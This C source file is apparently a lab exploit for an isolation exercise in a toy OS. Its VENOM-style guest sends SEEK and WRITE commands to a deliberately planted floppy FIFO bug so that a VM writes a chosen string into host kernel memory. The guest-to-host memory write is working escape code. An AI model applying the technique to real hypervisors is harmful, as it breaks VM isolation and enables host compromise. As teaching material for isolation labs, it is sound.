/* The isolation lab's VENOM guest: a bare guest run as a VM of the toy OS
 * (`vm run /vm/venom.elf fifo=A target=B name=NAME`, A and B decimal host-kernel addresses the lab
 * takes from the kernel's symbol table). It talks to the planted floppy FIFO (hyperv/labvenom.c,
 * on only when the host kernel has labbug=1): SEEK to target - fifo, then WRITE the name and its
 * NUL there -- host kernel memory, written by OUT instructions of a guest. */
#include "vxlib.h"

static uint32_t arg(const char *name)
{
    const char *s = strstr(vx_cmdline_args(), name);
    return s ? (uint32_t)strtoul(s + strlen(name), NULL, 10) : 0;
}

static void outb_fdc(uint8_t v) { __asm__ volatile("outb %0, %1" : : "a"(v), "Nd"((uint16_t)0x3F5)); }

int main(void)
{
    uint32_t fifo = arg("fifo="), target = arg("target="), off = target - fifo;
    char name[64];
    const char *s = strstr(vx_cmdline_args(), "name=");
    int n = 0;
    for (s = s ? s + 5 : ""; *s && *s != ' ' && n < 60; s++)
        name[n++] = *s;
    name[n++] = 0;
    outb_fdc(0x8E);                        /* SEEK */
    for (int i = 0; i < 4; i++)
        outb_fdc((uint8_t)(off >> (8 * i)));
    outb_fdc(0x45);                        /* WRITE n bytes */
    outb_fdc((uint8_t)n);
    for (int i = 0; i < n; i++)
        outb_fdc((uint8_t)name[i]);
    printf("venom: %d bytes sent to the floppy FIFO at offset %u\n", n, off);
    return 0;
}
